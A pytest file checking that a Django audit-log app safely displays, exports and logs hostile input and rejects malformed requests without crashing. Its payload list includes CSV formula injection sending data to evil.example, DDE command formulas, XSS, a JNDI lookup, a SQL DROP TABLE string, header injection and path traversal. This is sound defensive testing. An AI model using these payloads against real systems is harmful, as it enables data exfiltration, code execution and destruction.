"""Hostile text in names, headers and bodies: shown as text, exported as text, logged as one line, never a 500."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Callable

import pytest
from django.test import Client
from rest_framework.test import APIClient

from audit import services as audit
from audit import verification
from core import logs
from tests.personas import Persona

pytestmark = pytest.mark.django_db
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "line\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "null\0byte \ud800 lone surrogate",
    "\u202egnp.exe\u202c \u200b\ufeff",
    "Robert'); DROP TABLE audit_auditentry;--",
    "../../../../etc/passwd",
    "A" * 5000,
)


def test_the_log_takes_hostile_text_as_text(
    alice: Persona, client_of: Callable[[Persona], Client], api_of: Callable[[Persona], APIClient]
) -> None:
    for text in HOSTILE:
        audit.record_alone(
            actor=alice.actor,
            verb="access.denied",
            target_kind="page",
            target_id=text[:60],
            target_label=text,
            detail=text,
            changes={text[:40]: [text, {"deep": text}]},
        )
    audit.seal_all()
    assert verification.verify_chain(organization_id=alice.organization.id).ok
    client = client_of(alice)
    pages = [client.get("/audit/").content.decode()]
    rows = api_of(alice).get("/api/audit").json()["results"]
    pages += [client.get(f"/audit/{row['id']}/").content.decode() for row in rows]
    for page in pages:
        for live in ("<script>alert", "<img src=x", "49{% debug", "\0"):
            assert live not in page
    data = b"".join(audit.start_export(actor=alice.actor, file_format="csv", period="all").chunks)
    for row in csv.reader(io.StringIO(data.decode(), newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")), cell


def test_a_log_line_is_one_line_without_control_characters() -> None:
    for text in HOSTILE:
        record = logging.LogRecord("test", logging.INFO, __file__, 1, "%s", (text,), None)
        record.name_of_node = text
        line = logs.JsonFormatter().format(record)
        assert not [c for c in line if ord(c) < 32 or c == "\x7f"]
        assert json.loads(line)["name_of_node"]
        line.encode()  # what a terminal or a file gets


DEEP = b'{"name": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
BODIES = {
    "deep": DEEP,
    "wide": b'{"name": "' + b"x" * (11 * 1024 * 1024) + b'"}',
    "not UTF-8": b'{"name": "\xff\xfe\x80"}',
    "half": b'{"name": "a',
    "a number": b"1e999999",
    "constants": b'{"name": NaN, "x": Infinity}',
    "twice": b'{"name": "a", "name": {"a": 1}}',
    "nothing": b"",
    "a list": b"[[[]]]",
    "lone surrogate": b'{"name": "\\ud800", "url": "\\ud800"}',
    "NUL": b'{"name": "a\\u0000b", "kind": "\\u0000"}',
    "huge integer": b'{"days": ' + b"9" * 5000 + b', "retention_days": ' + b"9" * 5000 + b"}",
}


@pytest.mark.parametrize("name", BODIES)
@pytest.mark.parametrize(
    "path", ["/api/audit/exports", "/api/audit/settings", "/api/auth/login", "/api/client/accounts/connect"]
)
def test_a_hostile_body_is_a_problem_and_not_a_crash(
    alice: Persona, client_of: Callable[[Persona], Client], path: str, name: str
) -> None:
    client = client_of(alice)
    client.raise_request_exception = False
    method = "PUT" if path.endswith("settings") else "POST"
    answer = client.generic(method, path, BODIES[name], content_type="application/json")
    assert 400 <= answer.status_code < 500, answer.getvalue()[:300]
    assert answer["Content-Type"].startswith("application/problem+json")


@pytest.mark.parametrize("path", ["/audit/", "/api/audit", "/login", "/api/audit/verify"])
@pytest.mark.parametrize(
    "query",
    ["q=%ff%fe", "q=%00", "page=9" + "9" * 400, "search=" + "%F0%9F%92%A9" * 300, "before=%00.%00", "start=0000-00-00"],
)
def test_a_hostile_query_is_no_crash(
    alice: Persona, client_of: Callable[[Persona], Client], path: str, query: str
) -> None:
    client = client_of(alice)
    client.raise_request_exception = False
    assert client.get(f"{path}?{query}").status_code < 500
    odd = {"HTTP_X_REQUEST_ID": "a\x1b[2J", "HTTP_USER_AGENT": HOSTILE[9], "HTTP_X_FORWARDED_FOR": "=1,::1,\x00"}
    assert client.get(f"{path}?{query}", **odd).status_code < 500
